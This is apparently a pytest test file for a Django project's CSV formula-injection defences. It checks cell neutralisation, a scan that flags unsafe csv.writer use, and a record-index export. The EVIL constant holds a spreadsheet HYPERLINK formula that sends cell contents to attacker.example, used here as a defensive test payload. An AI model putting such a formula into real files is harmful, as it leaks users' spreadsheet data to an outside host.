"""Issue 13, finding 1: every CSV the project writes is safe to open in a spreadsheet.

The record index in the whole-record ZIP is checked here; the mailing manifest in
notices/tests/test_csv_injection.py. The source guard below keeps the next CSV from skipping the
shared writer.
"""

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from cases.tests.test_downloads import body, document_with
from common.csv_export import csv_cell, safe_csv_writer

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click here")'
SKIPPED = {".venv", "node_modules", "var", ".git", "static"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("María Pérez", "María Pérez"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (12, 12),
        (None, None),
    ],
)
def test_cells_that_could_start_a_formula_are_neutralised(value, expected):
    assert csv_cell(value) == expected


def test_the_safe_writer_writes_what_csv_writer_would_with_neutralised_cells():
    out = io.StringIO()
    writer = safe_csv_writer(out)
    writer.writerow(["=cmd", 1, "plain"])
    writer.writerows([["@x", "-y"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=cmd", "1", "plain"], ["'@x", "'-y"]]


def _python_files():
    for path in ROOT.rglob("*.py"):
        parts = set(path.relative_to(ROOT).parts)
        if parts & SKIPPED or "tests" in parts:
            continue
        yield path


def test_no_csv_is_written_without_the_safe_writer():
    """A new CSV export must use common.csv_export.safe_csv_writer (formula injection)."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bfrom csv import\b[^\n]*\b(writer|DictWriter)\b")
    helper = ROOT / "common" / "csv_export.py"
    offenders = [
        str(path.relative_to(ROOT))
        for path in _python_files()
        if path != helper and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"write CSV through common.csv_export.safe_csv_writer: {offenders}"


@pytest.mark.django_db
def test_a_record_document_titled_like_a_formula_is_plain_text_in_the_record_index(respondent_client, respondent):
    case = respondent.cases.get()
    document_with(case, b"%PDF-1.4 x " * 100, title=EVIL, filed_on=datetime.date(2025, 1, 10))
    document_with(case, b"%PDF-1.4 y " * 100, title="-1+2 summary", filed_on=datetime.date(2025, 1, 11))
    response = respondent_client.get(reverse("cases:record_download", args=[case.pk]))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    rows = list(csv.reader(io.StringIO(archive.read("000_index.csv").decode("utf-8-sig"))))
    titles = [row[3] for row in rows[1:]]
    assert titles == ["'" + EVIL, "'-1+2 summary"]
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row if cell.startswith(formula_starts)]
